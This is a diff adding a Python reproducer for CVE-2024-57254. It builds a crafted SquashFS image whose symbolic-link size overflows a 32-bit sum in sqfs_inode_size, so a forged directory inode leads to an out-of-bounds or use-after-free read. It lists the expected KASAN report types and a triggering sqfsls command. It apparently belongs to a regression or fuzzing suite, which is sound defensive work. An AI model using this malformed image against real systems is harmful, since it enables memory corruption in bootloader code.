@@ -1,0 +1,26 @@
+# SPDX-License-Identifier: MIT
+"""CVE-2024-57254: sqfs_inode_size() adds the size of a symbolic link to that of its inode, in 32 bits.
+
+The sum wraps to 8: the next inode is looked for inside this one, where the image has bytes of its own choice.
+That is a wrong place but no bad access. What KASAN reports is what follows from it: the forged inode there,
+an extended directory, says that its index goes on for longer than the table is.
+"""
+
+import struct
+
+import squashfs
+
+FUNCTION = "sqfs_inode_size"
+# Whose memory it is behind the table depends on what happened before.
+TYPES = ("slab-out-of-bounds", "slab-use-after-free")
+COMMANDS = ("sqfsls virtio 0 /dir",)
+
+
+def image():
+    # The forged inode starts 8 bytes into the link's own: its type is the low half of the link's time, its
+    # number the link's size. Behind: links, size, block, parent, 65,535 index entries of 8 KiB, and so on.
+    forged = struct.pack("<IIIIHHI", 2, 0, 0, 0, 0xFFFF, 0, 0) + struct.pack("<III", 0, 0, 8191)
+    link = squashfs.Symlink("link", forged, size=0x100000000 - 24 + 8, time=8)
+    target = squashfs.Dir("dir", [squashfs.File("file")])
+    root = squashfs.Dir("", [link, target])
+    return squashfs.Writer(root, last=target).image()
